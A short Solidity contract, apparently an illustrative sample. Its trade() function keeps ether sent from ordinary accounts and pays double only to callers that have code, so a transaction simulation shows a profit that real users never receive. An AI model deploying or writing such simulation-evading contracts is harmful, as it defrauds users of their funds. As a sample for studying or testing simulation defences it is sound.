// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// Pays a caller that has code, and nobody else: a simulation that gives its caller code shows another result.
contract TwoFaces {
    receive() external payable {}

    function trade() external payable {
        if (msg.sender.code.length == 0) return;
        (bool sent,) = msg.sender.call{value: 2 * msg.value}("");
        require(sent);
    }
}
